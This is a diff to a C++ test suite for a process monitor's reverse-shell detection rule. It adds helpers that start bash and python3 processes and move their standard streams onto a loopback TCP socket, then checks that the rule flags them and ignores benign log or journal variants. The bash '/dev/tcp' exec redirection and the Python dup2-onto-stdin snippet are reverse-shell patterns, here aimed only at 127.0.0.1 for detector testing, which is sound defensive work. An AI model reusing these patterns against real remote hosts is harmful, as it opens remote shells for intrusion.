@@ -75,39 +75,77 @@ std::string FdLink(pid_t pid, int fd) {
   return n < 0 ? "" : std::string(buf, static_cast<size_t>(n));
 }
 
+// Shells and interpreters that wait for a line on a FIFO of their own, then
+// move their descriptors: procmond scans them first as they started, then
+// the test releases them and waits for two more scans.
 class StdioMoveTest : public RuleLiveTest {
  protected:
-  // A bash that waits on a FIFO, then runs `redirect` (an `exec` of
-  // redirections only: bash itself moves its descriptors), then sleeps.
-  // procmond scans it first as it started, then the test releases it.
-  void StartAndRelease(const std::string& redirect, pid_t* shell_pid) {
-    fifo_ = work().File("go");
-    ASSERT_EQ(::mkfifo(fifo_.c_str(), 0600), 0) << std::strerror(errno);
-    shell_ =
+  // bash runs `redirect` (an `exec` of redirections only: bash itself moves
+  // its descriptors) once released, then sleeps.
+  pid_t BashThen(const std::string& redirect) {
+    const std::string fifo = NewFifo();
+    return Keep(
         TestProcess::Start(SystemBinary("bash"),
-                           {"bash", "-c", "read -r _ < '" + fifo_ + "'; " + redirect + "; sleep 1000; true"});
-    ASSERT_NE(shell_, nullptr);
-    *shell_pid = shell_->pid();
+                           {"bash", "-c", "read -r _ < '" + fifo + "'; " + redirect + "; sleep 1000; true"}));
+  }
+  // python3 connects to 127.0.0.1:port once released and dup2()s the socket
+  // onto fd 0 and `also` (1, or 2 for a twin); -1 when there is no python3.
+  pid_t PythonThen(int port, int also) {
+    if (SystemBinary("python3").empty()) return -1;
+    const std::string fifo = NewFifo();
+    return Keep(TestProcess::Start(SystemBinary("python3"),
+                                   {"python3", "-c",
+                                    "import os, socket, sys, time\n"
+                                    "open(sys.argv[1]).readline()\n"
+                                    "s = socket.create_connection(('127.0.0.1', int(sys.argv[2])))\n"
+                                    "os.dup2(s.fileno(), 0)\n"
+                                    "os.dup2(s.fileno(), int(sys.argv[3]))\n"
+                                    "time.sleep(1000)\n",
+                                    fifo, std::to_string(port), std::to_string(also)}));
+  }
+  // Starts procmond, waits until a scan recorded every process started,
+  // then releases them.
+  void ScanThenRelease() {
     db_ = work().File("events-scan.db");
     procmond_ = std::make_unique<ScanningProcmond>(work().path(), db_);
-    ASSERT_TRUE(procmond_->WaitForProcess(shell_->pid())) << procmond_->Log();
-    const int w = ::open(fifo_.c_str(), O_WRONLY | O_CLOEXEC);
-    ASSERT_GE(w, 0) << std::strerror(errno);
-    ASSERT_EQ(::write(w, "\n", 1), 1);
-    ::close(w);
+    for (const auto& p : procs_) ASSERT_TRUE(procmond_->WaitForProcess(p->pid())) << procmond_->Log();
+    for (const std::string& fifo : fifos_) {
+      const int w = ::open(fifo.c_str(), O_WRONLY | O_CLOEXEC);
+      ASSERT_GE(w, 0) << std::strerror(errno);
+      ASSERT_EQ(::write(w, "\n", 1), 1);
+      ::close(w);
+    }
   }
-  // Waits for two scans after the shell's descriptors moved, stops procmond
-  // and runs the rule over its store.
+  // Waits for two scans after the descriptors moved, stops procmond and
+  // runs the rule over its store.
   detection::RuleResult AfterTwoScans(const std::string& rule) {
     EXPECT_TRUE(procmond_->WaitForScans(2)) << procmond_->Log();
     procmond_->Stop();
     return Run(rule, db_);
   }
 
-  std::string fifo_, db_;
-  std::unique_ptr<TestProcess> shell_;
+ private:
+  std::string NewFifo() {
+    fifos_.push_back(work().File("go-" + std::to_string(fifos_.size())));
+    EXPECT_EQ(::mkfifo(fifos_.back().c_str(), 0600), 0) << std::strerror(errno);
+    return fifos_.back();
+  }
+  pid_t Keep(std::unique_ptr<TestProcess> p) {
+    EXPECT_NE(p, nullptr);
+    if (!p) return -1;
+    procs_.push_back(std::move(p));
+    return procs_.back()->pid();
+  }
+
+  std::vector<std::string> fifos_;
+  std::string db_;
+  std::vector<std::unique_ptr<TestProcess>> procs_;
   std::unique_ptr<ScanningProcmond> procmond_;
 };
+
+bool IsSocket(pid_t pid, int fd) {
+  return FdLink(pid, fd).rfind("socket:", 0) == 0;
+}
 
 // ---------------------------------------------------------------------------
 // proc-reverse-shell-socket-stdio: the move after the start (case 3)
@@ -115,31 +153,42 @@ class StdioMoveTest : public RuleLiveTest {
 TEST_F(StdioMoveTest, ProcReverseShellSocketStdio_ShellMovesStdioToASocketAfterItStarted) {
   LoopbackConnection conn;
   ASSERT_TRUE(conn.ok());
-  pid_t pid = -1;
-  StartAndRelease("exec 0<>/dev/tcp/127.0.0.1/" + std::to_string(conn.port()) + " 1>&0 2>&0", &pid);
-  ASSERT_TRUE(WaitUntil([&] { return FdLink(pid, 0).rfind("socket:", 0) == 0; })) << FdLink(pid, 0);
-  ASSERT_EQ(FdLink(pid, 1), FdLink(pid, 0));
-  auto row = ExpectOneRow(AfterTwoScans("proc-reverse-shell-socket-stdio"), pid);
+  const pid_t bash = BashThen("exec 0<>/dev/tcp/127.0.0.1/" + std::to_string(conn.port()) + " 1>&0 2>&0");
+  const pid_t python = PythonThen(conn.port(), 1);
+  ASSERT_GT(bash, 0);
+  ScanThenRelease();
+  ASSERT_TRUE(WaitUntil([&] { return IsSocket(bash, 0) && IsSocket(bash, 1); })) << FdLink(bash, 0);
+  if (python > 0) {
+    ASSERT_TRUE(WaitUntil([&] { return IsSocket(python, 0) && IsSocket(python, 1); }));
+  }
+  auto r = AfterTwoScans("proc-reverse-shell-socket-stdio");
+  auto row = ExpectOneRow(r, bash);
   EXPECT_EQ(row.value("name", ""), "bash");
   EXPECT_NE(row.value("stdin_socket_inode", int64_t{0}), 0) << row.dump();
+  if (python > 0) {
+    EXPECT_EQ(ExpectOneRow(r, python).value("name", ""), "python3");
+  }
 }
 
-TEST_F(StdioMoveTest, ProcReverseShellSocketStdio_ShellMovesStdioToAFileOrOnlyStdoutToASocket) {
+TEST_F(StdioMoveTest, ProcReverseShellSocketStdio_ShellMovesStdioToAFileOrOnlyOneStreamToASocket) {
   // The benign twins of the move: a script sending its output to a log
-  // (stdin from /dev/null), and one logging to a socket with stdin kept
-  // (a journal stream).
+  // (stdin from /dev/null), one logging to a socket with stdin kept (a
+  // journal stream), and an interpreter with stdin and stderr (not stdout)
+  // on a socket.
   LoopbackConnection conn;
   ASSERT_TRUE(conn.ok());
-  pid_t to_log = -1;
-  StartAndRelease("exec </dev/null >'" + work().File("out.log") + "' 2>&1", &to_log);
-  auto journal_like = TestProcess::Start(
-      SystemBinary("bash"),
-      {"bash", "-c",
-       "exec 1<>/dev/tcp/127.0.0.1/" + std::to_string(conn.port()) + " 2>&1; sleep 1000; true"});
-  ASSERT_NE(journal_like, nullptr);
-  ASSERT_TRUE(WaitUntil([&] { return FdLink(to_log, 1) == work().File("out.log"); })) << FdLink(to_log, 1);
-  ASSERT_TRUE(WaitUntil([&] { return FdLink(journal_like->pid(), 1).rfind("socket:", 0) == 0; }));
-  ExpectNoRows(AfterTwoScans("proc-reverse-shell-socket-stdio"), {to_log, journal_like->pid()});
+  const std::string log = work().File("out.log");
+  const pid_t to_log = BashThen("exec </dev/null >'" + log + "' 2>&1");
+  const pid_t journal = BashThen("exec 1<>/dev/tcp/127.0.0.1/" + std::to_string(conn.port()) + " 2>&1");
+  const pid_t python = PythonThen(conn.port(), 2);
+  ASSERT_TRUE(to_log > 0 && journal > 0);
+  ScanThenRelease();
+  ASSERT_TRUE(WaitUntil([&] { return FdLink(to_log, 1) == log; })) << FdLink(to_log, 1);
+  ASSERT_TRUE(WaitUntil([&] { return IsSocket(journal, 1); })) << FdLink(journal, 1);
+  if (python > 0) {
+    ASSERT_TRUE(WaitUntil([&] { return IsSocket(python, 0) && IsSocket(python, 2); }));
+  }
+  ExpectNoRows(AfterTwoScans("proc-reverse-shell-socket-stdio"), {to_log, journal, python});
 }
 
 // ---------------------------------------------------------------------------
